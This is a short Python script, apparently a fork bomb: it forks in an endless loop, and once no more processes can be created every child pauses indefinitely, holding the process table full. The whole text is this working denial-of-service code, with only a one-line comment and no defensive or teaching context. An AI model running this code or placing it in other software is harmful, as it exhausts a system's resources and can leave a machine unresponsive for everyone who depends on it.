# Forks for ever; once there is no process left to have, the others stay and hold them all.
import os
import signal

first = os.getpid()
try:
    while True:
        os.fork()
except OSError:
    if os.getpid() == first:
        raise
    signal.pause()
